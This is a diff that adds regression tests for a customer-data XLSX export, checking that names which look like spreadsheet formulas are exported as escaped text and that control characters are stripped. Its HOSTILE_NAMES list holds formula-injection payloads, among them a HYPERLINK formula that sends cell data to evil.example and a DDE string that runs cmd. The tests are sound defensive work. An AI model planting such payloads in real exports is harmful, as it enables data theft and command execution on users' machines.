@@ -111,3 +111,52 @@ def test_group_manager_exports_every_store_of_the_group_from_the_roll_up(client_
     assert "乙一标记客户" not in str(rows)
     logged = db.session.query(AuditLog).filter_by(action="export", user_id=manager.id).one()
     assert logged.org_id == two_tenants.a1.org_id and logged.after["rows"] == len(rows) - 1
+
+
+#: names a spreadsheet would run as formulas (or DDE) if written as they are
+HOSTILE_NAMES = (
+    '=HYPERLINK("http://evil.example/?"&B2,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+def _cells(response) -> list:
+    """Every cell of the export, opened fully (read-only mode hides the cell types)."""
+    assert response.status_code == 200 and response.mimetype == XLSX
+    workbook = load_workbook(io.BytesIO(response.data))
+    return [cell for row in workbook.worksheets[0].iter_rows() for cell in row]
+
+
+def test_names_that_look_like_formulas_are_exported_as_text(client_as, store):
+    client, _manager = client_as("sales_manager")
+    for n, name in enumerate(HOSTILE_NAMES[:4]):  # typed into the form
+        posted = client.post("/customers/new", data={"name": name, "kind": "individual", "mobile": f"1370000010{n}"})
+        assert posted.status_code == 303, posted.text
+    for name in HOSTILE_NAMES[4:]:  # the form drops the tab and CR; a script might not
+        factories.CustomerFactory(store=store, name=name)
+    db.session.commit()
+    cells = _cells(client.post("/customers/export", data={}))
+    assert cells and all(cell.data_type != "f" for cell in cells)
+    names = sorted(cell.value for cell in cells if cell.column == 2 and cell.row > 1)
+    # (XML reads a carriage return back as a line feed)
+    assert names == sorted(["'" + name.replace("\r", "\n") for name in HOSTILE_NAMES])
+    assert '\'=HYPERLINK("http://evil.example/?"&B2,"click")' in names
+
+
+def test_a_control_character_in_a_stored_name_does_not_break_the_export(client_as, store):
+    """Rows saved before the forms cleaned text (or by a script) still export. PostgreSQL
+    refuses NUL in text itself, so there the row carries other control characters."""
+    client, _manager = client_as("sales_manager")
+    nul = "" if db.engine.dialect.name == "postgresql" else "\x00"
+    factories.CustomerFactory(store=store, name=f"{nul}控制\x01字符\x1b[31m", address="第一行\n第二行\x0b")
+    factories.CustomerFactory(store=store, name="正常客户")
+    db.session.commit()
+    rows = _sheet(client.post("/customers/export", data={}))
+    names = sorted(r[1] for r in rows[1:])
+    assert names == ["控制字符[31m", "正常客户"]
+    address = next(r[13] for r in rows[1:] if r[1] == "控制字符[31m")
+    assert address == "第一行\n第二行"
